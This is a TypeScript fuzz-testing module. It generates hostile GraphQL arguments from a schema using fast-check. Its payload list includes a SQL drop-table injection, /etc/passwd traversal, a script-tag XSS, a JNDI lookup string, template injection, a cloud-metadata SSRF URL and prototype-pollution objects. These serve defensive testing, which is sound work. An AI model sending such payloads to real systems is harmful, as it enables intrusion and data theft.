/**
 * fast-check arbitraries of hostile input, driven by the GraphQL contract (schema.graphql read with
 * graphql-js): every argument of a root field gets a value of its declared type, whose free-text and
 * JSON leaves are hostile (lone surrogates, control characters, operator objects, prototype keys, deep
 * nesting, huge numbers, injection strings) and whose ids and keys are sometimes real, so that payloads
 * get past the first check and into the services.
 */
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import {
  buildSchema,
  getNamedType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLSchema,
} from 'graphql';

export function contractSchema(): GraphQLSchema {
  return buildSchema(readFileSync(new URL('../../../../schema.graphql', import.meta.url), 'utf8'));
}

/** Leaf types that carry text or JSON a client chooses freely. */
const FREE_TEXT = new Set(['String', 'JSON']);

/** Whether an input type contains a String or JSON leaf anywhere (through lists and input objects). */
export function takesFreeText(type: GraphQLInputType, seen = new Set<string>()): boolean {
  const named = getNamedType(type);
  if (isScalarType(named)) return FREE_TEXT.has(named.name);
  if (!isInputObjectType(named) || seen.has(named.name)) return false;
  seen.add(named.name);
  return Object.values(named.getFields()).some((f) => takesFreeText(f.type, seen));
}

export type RootField = GraphQLField<unknown, unknown> & { rootType: 'Query' | 'Mutation' };

/** Root queries and mutations with at least one String or JSON argument (leaf), by name. */
export function freeTextFields(schema: GraphQLSchema): RootField[] {
  const roots = [
    ['Query', schema.getQueryType()],
    ['Mutation', schema.getMutationType()],
  ] as const;
  return roots
    .flatMap(([rootType, type]) =>
      Object.values(type?.getFields() ?? {}).map((f) => Object.assign(f, { rootType }) as RootField),
    )
    .filter((f) => f.args.some((a) => takesFreeText(a.type)))
    .sort((a, b) => `${a.rootType}.${a.name}`.localeCompare(`${b.rootType}.${b.name}`));
}

/** `mutation Attack($a: T!, …) { field(a: $a, …) { __typename } }` for a root field. */
export function operationFor(field: RootField): string {
  const vars = field.args.map((a) => `$${a.name}: ${String(a.type)}`).join(', ');
  const args = field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
  const named = getNamedType(field.type);
  const selection = isScalarType(named) || isEnumType(named) ? '' : ' { __typename }';
  const keyword = field.rootType === 'Query' ? 'query' : 'mutation';
  return `${keyword} Attack${vars ? `(${vars})` : ''} { ${field.name}${args ? `(${args})` : ''}${selection} }`;
}

const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c));
const controlChar = fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c));
const oddChar = fc.constantFrom(
  '\u202e',
  '\u200b',
  '\ufeff',
  '\u2028',
  '\ufffd',
  '𠮷',
  '👨‍👩‍👧',
  '\\',
  '"',
  '$',
  '.',
);

const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  '\ud800',
  'a\udfffb',
  '{"$gt":""}',
  '$where',
  '$ne',
  'a.b.c',
  '__proto__',
  'constructor',
  'prototype',
  '../../../../etc/passwd',
  "'; DROP TABLE cases; --",
  '<script>alert(1)</script>',
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  '%00%0d%0a',
  'NaN',
  '-0',
  '1e309',
  '9'.repeat(400),
  'x'.repeat(70_000),
  '2026-02-30',
  '0000-00-00T25:61:61Z',
  '1900-01-01',
  'http://169.254.169.254/latest/meta-data',
  'data:text/html;base64,PHNjcmlwdD4=',
  'iVBORw0KGgo=',
  '%PDF-1.4',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  {
    weight: 3,
    arbitrary: fc.string({
      unit: fc.oneof(fc.string({ minLength: 1, maxLength: 1 }), loneSurrogate, controlChar, oddChar),
      maxLength: 40,
    }),
  },
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
);

const hostileKey = fc.oneof(
  fc.string({ maxLength: 10 }),
  fc.constantFrom('__proto__', 'constructor', 'prototype', '$set', '$where', 'a.b', '', '\ud800', '_id'),
);

/** Arrays nested `depth` deep (`[[[…]]]`): a parser or hash that recurses must not fall over. */
function nested(depth: number, inner: unknown): unknown {
  let value = inner;
  for (let i = 0; i < depth; i++) value = i % 2 === 0 ? [value] : { a: value };
  return value;
}

export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  {
    weight: 3,
    arbitrary: fc.dictionary(
      hostileKey,
      fc.oneof(hostileString, fc.integer(), fc.double({ noNaN: true }), fc.constant(null), fc.jsonValue()),
      { maxKeys: 8 },
    ),
  },
  { weight: 1, arbitrary: fc.integer({ min: 50, max: 1000 }).map((d) => nested(d, 'deep')) },
  {
    weight: 1,
    arbitrary: fc.constantFrom<unknown>(
      1e308,
      -0,
      Number.MAX_SAFE_INTEGER + 2,
      '',
      [],
      {},
      { $gt: '' },
      JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
      Array.from({ length: 20_000 }, (_, i) => i),
      { a: 'x'.repeat(200_000) },
    ),
  },
  { weight: 2, arbitrary: hostileString },
);

/** Values the fixtures made real (ids, keys, tokens), so that some payloads reach deep code. */
export interface RealValues {
  ids: string[];
  strings: string[];
}

const SCALAR_SAMPLES: Record<string, unknown[]> = {
  DateTime: ['2026-01-01T00:00:00.000Z', '1900-01-01T00:00:00Z', '9999-12-31T23:59:59Z', 'not-a-time'],
  Date: ['2026-01-01', '1900-01-01', '2026-02-29', '9999-12-31', '01/02/2026'],
  Fen: ['0', '1', '-1', '9007199254740993', '1.5', 100, -5, 1e20],
};

function scalarArb(name: string, real: RealValues): fc.Arbitrary<unknown> {
  switch (name) {
    case 'String':
      return fc.oneof(
        { weight: 3, arbitrary: hostileString },
        { weight: 2, arbitrary: fc.constantFrom(...real.strings) },
      );
    case 'ID':
      return fc.oneof(
        { weight: 1, arbitrary: hostileString },
        { weight: 3, arbitrary: fc.constantFrom(...real.ids) },
      );
    case 'JSON':
      return hostileJson;
    case 'Int':
      return fc.oneof(fc.integer({ min: -2, max: 100 }), fc.constantFrom(0, 2147483647, -2147483648));
    case 'Float':
      return fc.double({ noNaN: true, noDefaultInfinity: true });
    case 'Boolean':
      return fc.boolean();
    default:
      return fc.oneof(fc.constantFrom(...(SCALAR_SAMPLES[name] ?? ['x'])), hostileString);
  }
}

/** A value of `type`: nullable positions are sometimes null, lists short, input objects recursive. */
export function valueOf(type: GraphQLInputType, real: RealValues, depth = 0): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return inner(type.ofType, real, depth);
  return fc.option(inner(type, real, depth), { freq: 6, nil: null });
}

function inner(type: GraphQLInputType, real: RealValues, depth: number): fc.Arbitrary<unknown> {
  if (isListType(type)) return fc.array(valueOf(type.ofType, real, depth + 1), { maxLength: 3 });
  if (isEnumType(type)) return fc.constantFrom(...type.getValues().map((v) => v.name));
  if (isInputObjectType(type)) {
    const fields = Object.values(type.getFields()).filter((f) => depth < 4 || isNonNullType(f.type));
    const record: Record<string, fc.Arbitrary<unknown>> = {};
    for (const f of fields) record[f.name] = valueOf(f.type, real, depth + 1);
    return fc.record(record, {
      requiredKeys: fields.filter((f) => isNonNullType(f.type)).map((f) => f.name),
    });
  }
  if (isScalarType(type)) return scalarArb(type.name, real);
  throw new Error(`unexpected input type ${String(type)}`);
}

/** Variables for every argument of a root field. */
export function variablesOf(
  args: readonly GraphQLArgument[],
  real: RealValues,
): fc.Arbitrary<Record<string, unknown>> {
  const record: Record<string, fc.Arbitrary<unknown>> = {};
  for (const a of args) record[a.name] = valueOf(a.type, real);
  return fc.record(record, {
    requiredKeys: args.filter((a) => isNonNullType(a.type)).map((a) => a.name),
  });
}
